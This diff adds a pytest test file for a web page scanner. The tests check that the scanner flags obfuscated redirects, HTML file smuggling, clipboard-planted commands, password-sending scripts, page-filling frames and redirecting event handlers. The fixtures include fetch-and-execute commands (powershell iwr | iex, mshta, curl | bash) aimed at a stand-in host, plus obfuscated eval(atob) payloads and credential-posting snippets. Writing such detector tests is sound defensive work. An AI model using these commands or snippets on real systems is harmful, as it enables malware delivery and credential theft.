@@ -1,0 +1,148 @@
+"""What is said of pages by the code in them: what hides, saves, copies, sends and fills."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from uriinspector import scan
+
+PASSWORD = "<input type=password id=p>"
+THERE = "https://kxqv.top/c"
+CODE = base64.b64encode(f"location='{THERE}'".encode()).decode()
+PADDING = "<p>" + "x" * 20_000
+
+
+def codes(page: str, name: str = "page.html") -> dict[str, str]:
+    """Each code that is said of the page or of a link in it, with its severity."""
+    document = scan(page.encode(), name=name)
+    found = [*document.findings, *(each for link in document.links for each in link.findings)]
+    return {each.code: each.severity for each in reversed(found)}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"eval(atob('{CODE}'))",
+        "location=String.fromCharCode(104,116,116,112)",
+        "location='/pot.vqxk//:sptth'.split('').reverse().join('')",
+        "document.location.assign(decodeURIComponent('https%3A%2F%2Fkxqv.top%2F'))",
+        f"window['loc'+'ation']['href']='{THERE}'",
+        f"new Function(atob('{CODE}'))()",
+        f"document.write(unescape('{'%3Cform%3E' * 3}'))",
+    ],
+)
+def test_a_small_page_that_hides_its_code_says_so(code: str) -> None:
+    page = f"<script>{code}</script>"
+    assert codes(page)["hidden-code"] == "medium"
+    assert "hidden-code" not in codes(page + PADDING)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "x = decodeURIComponent(location.hash)",
+        "document.write('<p>hello')",
+        "s = String.fromCharCode(65); n.textContent = s",
+        "list.reverse().forEach(show)",
+    ],
+)
+def test_ordinary_code_hides_nothing(code: str) -> None:
+    assert codes(f"<script>{code}</script>") == {}
+
+
+SAVES = "b=new Blob([atob('{}')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()"
+
+
+def test_a_file_out_of_the_page_is_told() -> None:
+    page = f"<script>{SAVES.format(CODE)}</script>"
+    assert codes(page)["smuggled-file"] == "medium"
+    assert codes(page + PADDING)["smuggled-file"] == "medium"
+    for piece in ("atob", ".click()", ".download="):
+        assert "smuggled-file" not in codes(page.replace(piece, "x"))
+
+
+@pytest.mark.parametrize(
+    ("command", "is_told"),
+    [
+        ("powershell -w hidden iwr https://kxqv.top/a | iex", True),
+        ("mshta https://kxqv.top/a", True),
+        ("curl https://kxqv.top/a | bash", True),
+        ("curl https://api.example.org/v1/users", False),
+        ("npm install left-pad", False),
+    ],
+)
+def test_a_command_in_the_clipboard_is_told(command: str, is_told: bool) -> None:
+    page = f"<script>navigator.clipboard.writeText('{command}')</script>"
+    assert ("copied-command" in codes(page)) == is_told
+
+
+def test_an_application_of_html_is_told() -> None:
+    assert codes("<p>x", "invoice.hta") == {"html-application": "medium"}
+    assert codes("<HTA:APPLICATION ID=a>") == {"html-application": "medium"}
+    assert codes("<p>hta:application") == {}
+
+
+@pytest.mark.parametrize(
+    ("code", "severity"),
+    [
+        (f"fetch('{THERE}',{{method:'POST'}})", "medium"),
+        (f"x.open('POST','{THERE}')", "medium"),
+        (f"document.forms[0].action='{THERE}'", "medium"),
+        (f"$.ajax({{url:'{THERE}'}})", "medium"),
+        ("x='https://api.telegram.org/bot1:A/sendMessage'", "medium"),
+        ("fetch('https://accounts.google.com/x')", None),
+        (f"x='{THERE}'", None),
+        ("fetch('/login')", None),
+    ],
+)
+def test_a_script_beside_a_password_can_send_it(code: str, severity: str | None) -> None:
+    assert codes(f"{PASSWORD}<script>{code}</script>").get("script-sends") == severity
+    assert "script-sends" not in codes(f"<script>{code}</script>")
+
+
+@pytest.mark.parametrize(
+    ("frame", "severity"),
+    [
+        (f"<iframe src={THERE} width=100% height=100%>", "medium"),
+        (f"<iframe src={THERE} style='position:fixed; width: 100vw; height: 100vh'>", "medium"),
+        (f"<frameset><frame src={THERE}>", "medium"),
+        ("<iframe src=https://www.google.com/maps width=100% height=100%>", "low"),
+        (f"<iframe src={THERE} width=300 height=100%>", None),
+        ("<iframe src=/inner width=100% height=100%>", None),
+    ],
+)
+def test_a_frame_that_fills_the_page(frame: str, severity: str | None) -> None:
+    assert codes(frame).get("filling-frame") == severity
+    assert "filling-frame" not in codes(frame + PADDING)
+
+
+@pytest.mark.parametrize(
+    ("element", "severity"),
+    [
+        (f"<button onclick=\"location='{THERE}'\">Sign in</button>", "medium"),
+        (f"<a href='#' onclick=\"location.href='{THERE}'\">Sign in</a>", "medium"),
+        (f"<button onclick=\"window.open('{THERE}')\">Help</button>", "info"),
+        (f"<body onload=\"window.open('{THERE}')\">", "medium"),
+        (f"<body onload=\"location='{THERE}'\">", "high"),
+        ("<button onclick=\"location='https://www.google.com/'\">Search</button>", "low"),
+        ("<button onclick=\"location='/next'\">Next</button>", "info"),
+    ],
+)
+def test_code_that_leads_away_from_what_names_no_address(element: str, severity: str) -> None:
+    assert codes(element)["event-handler"] == severity
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"<script>location='{THERE}'</script>",
+        f"<script><![CDATA[ if (1 < 2) location='{THERE}' ]]></script>",
+        f"<style>circle {{ fill: url({THERE}) }}</style>",
+    ],
+)
+def test_code_in_a_drawing_is_read(script: str) -> None:
+    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<a href='/x'/></svg>"
+    values = [link.value for link in scan(drawing.encode(), name="x.svg").links]
+    assert values == [THERE, "/x"]
